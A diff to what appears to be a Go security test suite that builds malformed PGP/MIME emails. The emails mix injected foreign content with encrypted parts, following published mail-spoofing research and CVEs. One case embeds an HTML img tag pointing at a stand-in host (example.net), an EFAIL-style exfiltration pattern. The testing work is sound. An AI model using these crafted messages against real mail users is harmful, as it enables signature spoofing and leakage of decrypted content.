@@ -60,6 +60,21 @@ func loose(name string, sig func(c *cast, entity string) (shown, second string))
 	}}
 }
 
+// mangled is an encrypted mail as Exchange leaves it, with more in it than that:
+// only where nothing else is there is it taken for the whole.
+func mangled(name, first string, more []string) attack {
+	return attack{name: name, only: "pgp", mail: func(c *cast, f string, attacks bool) string {
+		m := sealedBytes(f, envelope.Compatible, plain(secret), []*someone{c.alice}, c.bob)
+		parts := []string{plain(""), "Content-Type: application/pgp-encrypted; name=\"PGPMIME version identification\"\r\n\r\nVersion: 1\r\n",
+			"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + armored("MESSAGE", m)}
+		if attacks {
+			parts[0] = first
+			parts = append(parts, more...)
+		}
+		return header + multipartOf("mixed", "out", parts...)
+	}}
+}
+
 // What was published of the grammar of messages and of the interface of gpg:
 // "Johnny, you are fired!", Section 4.2; CVE-2025-47934, CVE-2023-41037,
 // CVE-2018-12020, CVE-2006-0049.
@@ -110,6 +125,11 @@ func pgpAttacks() []attack {
 			}
 			return header + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"out\"\r\n\r\n" + delimited("out", parts...)
 		}},
+		mangled("mangled-text", plain(foreign), nil),
+		mangled("mangled-html", page(`<img src="http://example.net/`+foreign+`?`), nil),
+		mangled("mangled-hidden", page("<!-- "+foreign+" -->"), nil),
+		mangled("mangled-more", plain(""), []string{plain(foreign)}),
+		mangled("mangled-attached", plain(""), []string{"Content-Disposition: attachment; filename=a.txt\r\n" + plain(foreign)}),
 		loose("pgp-signature-empty", func(_ *cast, entity string) (string, string) { return entity, part("") }),
 		loose("pgp-signature-damaged", func(c *cast, entity string) (string, string) {
 			return entity, signaturePart("pgp", damaged(detached("pgp", entity, c.alice)))
